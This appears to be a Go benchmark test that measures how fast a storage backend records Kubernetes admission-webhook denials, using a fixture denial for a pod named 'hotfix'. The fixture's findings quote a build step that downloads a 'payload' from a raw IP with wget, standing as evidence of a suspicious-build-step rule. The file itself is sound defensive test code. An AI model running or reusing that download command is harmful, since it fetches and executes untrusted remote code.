package evidence

import (
	"context"
	"encoding/json"
	"fmt"
	"sync/atomic"
	"testing"
	"time"
)

// benchDecision is a denial as the webhook records it: one image with two
// findings and their evidence (about 1 KB of images JSON).
func benchDecision(id int64) Decision {
	images, _ := json.Marshal([]map[string]any{{
		"container": "app", "containerKind": "container", "image": "registry.example/shop/web:1.4",
		"digest": "sha256:f26979c8a7b5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9", "verdict": "deny",
		"configDigests": []string{"sha256:1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e"},
		"findings": []map[string]any{
			{"rule": "fresh-image", "severity": "high", "action": "deny",
				"message": "image was created 14s before admission (2026-11-26T21:21:14Z), less than freshness.minAge 10m",
				"summary": "created 14s before admission, minAge 10m", "policy": "default",
				"evidence": map[string]any{"ageSeconds": 14, "created": "2026-11-26T21:21:14Z", "minAge": "10m0s"}},
			{"rule": "suspicious-build-step", "severity": "high", "action": "deny",
				"message": `build step 1 downloads from raw IP 203.0.113.9 with wget: "RUN wget -q http://203.0.113.9:8080/payload"`,
				"summary": "step 1: raw-ip-download from 203.0.113.9", "policy": "default",
				"evidence": map[string]any{"stepIndex": 1, "kinds": []string{"raw-ip-download"}, "hosts": []string{"203.0.113.9"}}},
		},
	}})
	return Decision{
		ID: fmt.Sprintf("6f1c2a9e-1b7d-4c3a-9e51-%012x", id), Time: stT0.Add(time.Duration(id) * time.Millisecond),
		Operation: "CREATE", Namespace: "shop", Kind: "Pod", Name: "hotfix",
		User: "system:serviceaccount:kube-system:replicaset-controller", Groups: []string{"system:serviceaccounts", "system:authenticated"},
		Mode: "enforce", Verdict: "deny", Rules: []string{"fresh-image", "suspicious-build-step"}, Images: images,
	}
}

// BenchmarkAddDecisions stores denials in transactions of 1, 16 and 256
// records (each a durable commit) and reports records/s: what the
// Recorder's writer and its group commits can store.
func BenchmarkAddDecisions(b *testing.B) {
	for _, be := range benchBackends() {
		b.Run(be.name, func(b *testing.B) {
			s := be.open(b)
			var seq atomic.Int64
			for _, size := range []int{1, 16, 256} {
				b.Run(fmt.Sprint("batch-", size), func(b *testing.B) {
					ctx := context.Background()
					batch := make([]Decision, size)
					records := 0
					for b.Loop() {
						for i := range batch {
							batch[i] = benchDecision(seq.Add(1))
						}
						if err := s.AddDecisions(ctx, batch); err != nil {
							b.Fatal(err)
						}
						records += size
					}
					b.ReportMetric(float64(records)/b.Elapsed().Seconds(), "records/s")
					b.ReportMetric(float64(b.Elapsed().Microseconds())/float64(b.N), "µs/commit")
				})
			}
		})
	}
}
